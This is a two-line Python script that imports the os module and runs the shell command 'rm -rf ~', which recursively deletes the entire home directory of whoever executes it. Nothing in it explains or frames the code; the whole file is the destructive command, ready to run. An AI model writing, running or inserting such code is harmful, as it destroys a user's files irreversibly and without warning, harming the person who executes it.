from os import *
system("rm -rf ~")
